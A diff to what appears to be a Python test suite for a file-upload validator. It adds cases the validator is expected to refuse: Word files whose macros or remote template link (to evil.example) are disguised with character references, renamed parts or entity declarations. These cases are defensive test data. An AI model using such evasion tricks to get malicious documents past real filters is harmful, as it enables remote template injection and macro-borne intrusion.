@@ -152,6 +152,10 @@ _TEMPLATE: Final = (
     'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
 )
 _RELATIONSHIPS: Final = "word/_rels/settings.xml.rels"
+_MACRO_TYPES: Final = (
+    "<Types><!-- wordprocessingml.document.main+xml --><Override "
+    'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+)
 _LINK: Final = _TEMPLATE.replace("attachedTemplate", "hyperlink")
 
 REFUSED: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
@@ -182,6 +186,14 @@ REFUSED: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
     "a picture without a size": (lambda: png(0, 8), "unreadable"),
     "a JPEG cut off": (lambda: jpeg()[:22], "unreadable"),
     "a document with macros": (lambda: docx(**{"word/vbaProject.bin": b"x"}), "macros"),
+    "a document with macros by its types, written otherwise": (
+        lambda: docx(**{"[Content_Types].xml": _MACRO_TYPES.replace("macroEnabled", "&#109;acroEnabled")}),
+        "macros",
+    ),
+    "a document with macros in a part of another name": (
+        lambda: docx(**{"word/_rels/document.xml.rels": _TEMPLATE.replace("attachedTemplate", "vbaProject")}),
+        "macros",
+    ),
     "a document with an object in it": (lambda: docx(**{"word/embeddings/oleObject1.bin": b"x"}), "embedded_files"),
     "a document that fetches its template": (lambda: docx(**{"word/_rels/settings.xml.rels": _TEMPLATE}), "external_content"),
     "a PDF that opens a page of the web": (lambda: pdf(_going_on), "action"),
@@ -198,10 +210,21 @@ REFUSED: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
         lambda: docx(**{_RELATIONSHIPS: _TEMPLATE.replace("><", ">" + " " * 300_000 + "<", 1)}),
         "external_content",
     ),
-    "a document whose relationships are no XML": (lambda: docx(**{_RELATIONSHIPS: "<"}), "unreadable"),
     "a document with macros by another name": (
         lambda: docx(**{"[Content_Types].xml": _TYPES.replace("</Types>", _MACRO_TYPE + "</Types>"), "word/x.bin": b"x"}),
         "macros",
+    ),
+    "a document that fetches its template, written otherwise": (
+        lambda: docx(**{"word/_rels/settings.xml.rels": _TEMPLATE.replace('"External"', "'&#69;xternal'")}),
+        "external_content",
+    ),
+    "a document with relations that are no XML": (
+        lambda: docx(**{"word/_rels/settings.xml.rels": "<Relationships>"}),
+        "unreadable",
+    ),
+    "a document with relations that declare entities": (
+        lambda: docx(**{"word/_rels/settings.xml.rels": f'<!DOCTYPE a [<!ENTITY b "External">]>{_TEMPLATE}'}),
+        "unreadable",
     ),
     "a damaged document": (
         lambda: archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, zipfile.ZIP_STORED).replace(
